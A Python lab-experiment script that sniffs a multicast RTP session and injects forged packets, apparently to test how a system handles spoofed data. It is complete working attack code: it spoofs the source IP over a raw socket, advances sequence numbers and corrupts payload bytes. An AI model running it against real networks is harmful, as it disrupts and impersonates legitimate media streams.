"""Forged multicast data packets (`mcp2p.lab.experiments.control`).

argv: IFNAME SN_IP PORT COUNT SPACING LEAD WAIT. Sniffs IPv4 UDP from SN_IP
to a multicast group on PORT (AF_PACKET on IFNAME, up to WAIT seconds for
the first), then sends COUNT forged copies of the latest such packet,
SPACING seconds apart, each with its sequence number LEAD ahead of the
latest seen and 32 payload bytes flipped, from SN_IP (raw IP socket) to the
same group and port. Prints one JSON line.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

MAX_DATAGRAM = 1472  # an RTP datagram in one Ethernet frame (1500 - IP - UDP)


def one(rtp: bytes) -> bytes:
    """The first RTP datagram of ``rtp``.

    The SN sends bursts with UDP GSO: AF_PACKET may see a burst before it is
    split. Keep its first datagram: the next RTP header repeats byte 0 and the
    SSRC at the segment size."""
    if len(rtp) <= MAX_DATAGRAM:
        return rtp
    for k in range(24, min(len(rtp) - 12, MAX_DATAGRAM + 1)):
        if rtp[k] == rtp[0] and rtp[k + 8 : k + 12] == rtp[8:12]:
            return rtp[:k]
    return rtp[:MAX_DATAGRAM]


def session_packet(b: bytes, sn_ip: bytes, port: int) -> tuple[bytes, bytes] | None:
    """(group, first RTP datagram) if ``b`` (an IPv4 packet) is UDP from
    ``sn_ip`` to a multicast group on ``port`` with an RTP header; else None."""
    if len(b) < 28 or b[9] != 17 or b[12:16] != sn_ip or not 224 <= b[16] <= 239:
        return None
    ihl = (b[0] & 15) * 4
    udp = b[ihl:]
    if len(udp) < 8 + 22 or struct.unpack("!H", udp[2:4])[0] != port:
        return None
    return b[16:20], one(udp[8:])


def forge(rtp: bytes, ts: int, sn_ip: bytes, group: bytes, port: int) -> bytes:
    """An IPv4 packet from ``sn_ip`` to ``group``: ``rtp`` with sequence
    number and timestamp ``ts`` and payload bytes 22..53 flipped."""
    ts &= 0xFFFFFFFF
    body = bytearray(rtp[:2] + struct.pack("!HI", ts & 0xFFFF, ts) + rtp[8:])
    for j in range(22, min(len(body), 54)):
        body[j] ^= 0xFF
    udp = struct.pack("!HHHH", port, port, 8 + len(body), 0) + bytes(body)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 16, 17, 0, sn_ip, group)
    return ip + udp


class _Sniffer:
    def __init__(self, ifname: str, sn_ip: bytes, port: int) -> None:
        self.sn_ip, self.port = sn_ip, port
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.sock.bind((ifname, 0))
        self.sock.settimeout(0.2)
        self.latest: tuple[bytes, bytes] | None = None
        self.seen = 0

    def take(self, b: bytes) -> None:
        found = session_packet(b, self.sn_ip, self.port)
        if found is not None:
            self.seen += 1
            self.latest = found

    def drain(self) -> None:
        self.sock.setblocking(False)
        try:
            for _ in range(4096):
                self.take(self.sock.recv(65535))
        except BlockingIOError:
            pass
        finally:
            self.sock.settimeout(0.2)


def main(argv: list[str]) -> int:
    ifname, sn_ip, port = argv[0], socket.inet_aton(argv[1]), int(argv[2])
    count, spacing = int(argv[3]), float(argv[4])
    lead, wait = int(argv[5]), float(argv[6])
    sniff = _Sniffer(ifname, sn_ip, port)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    idx = socket.if_nametoindex(ifname)
    mreqn = struct.pack("4s4si", b"\0" * 4, b"\0" * 4, idx)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 16)

    deadline = time.monotonic() + wait
    while sniff.latest is None and time.monotonic() < deadline:
        try:
            sniff.take(sniff.sock.recv(65535))
        except TimeoutError:
            pass
    if sniff.latest is None:
        print(json.dumps({"sent": 0, "seen": sniff.seen, "error": "no session packet seen"}))
        return 0
    sent, errors, first, last = 0, 0, time.monotonic(), -1
    ssrc = struct.unpack("!I", sniff.latest[1][8:12])[0]
    for _ in range(count):
        sniff.drain()
        group, rtp = sniff.latest
        ts = max(struct.unpack("!I", rtp[4:8])[0] + lead, last + 1)  # each one distinct
        last = ts
        try:
            raw.sendto(forge(rtp, ts, sn_ip, group, port), (socket.inet_ntoa(group), 0))
            sent += 1
        except OSError:
            errors += 1
        time.sleep(spacing)
    result = {
        "sent": sent,
        "errors": errors,
        "seen": sniff.seen,
        "ssrc": ssrc,
        "group": socket.inet_ntoa(sniff.latest[0]),
        "seconds": time.monotonic() - first,
    }
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
